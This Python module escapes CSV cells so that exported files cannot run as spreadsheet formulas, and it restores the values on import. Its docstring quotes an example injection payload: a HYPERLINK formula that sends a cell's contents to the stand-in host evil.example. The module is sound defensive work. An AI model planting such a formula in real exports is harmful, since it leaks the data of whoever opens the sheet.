"""Cells of the CSV files we write, safe to open in a spreadsheet, and read back as they were.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or a carriage return) as a formula: a subscriber named
``=HYPERLINK("http://evil.example/?"&A1,"Click me")`` would otherwise send the sheet's
data away when an editor opens an export. As OWASP advises, such a cell is written with a
single quote in front (``'=HYPERLINK(…``), which spreadsheets show as text.

The escape is undone on import, so that an export reads back to the same values: one
leading quote is taken away from a cell whose quotes are followed by one of those
characters. A value that really begins with quotes and such a character (``'=x``) gets
one more quote on export (``''=x``), so every value survives the round trip; a cell
without one of those characters after its leading quotes (``'tis``) is left alone both ways.
The rule holds for other tools' files too: their ``'-1`` is read as ``-1``, as a
spreadsheet shows it. One exception, in the email column: an address that is valid only
with its quote (``'@a.ac``) keeps it, since no address we export begins with ``@``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "SafeWriter", "escape_cell", "unescape_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it as text."""
    return "'" + value if value.lstrip("'")[:1] in FORMULA_STARTS else value


def unescape_cell(cell: str) -> str:
    """The value ``escape_cell`` wrote as ``cell``; other cells are given back unchanged."""
    if cell[:1] == "'" and cell.lstrip("'")[:1] in FORMULA_STARTS:
        return cell[1:]
    return cell


class SafeWriter:
    """A ``csv.writer`` whose every text cell goes through ``escape_cell``."""

    def __init__(self, handle: Any):
        self._writer = csv.writer(handle)

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow(
            [escape_cell(cell) if isinstance(cell, str) else cell for cell in cells]
        )
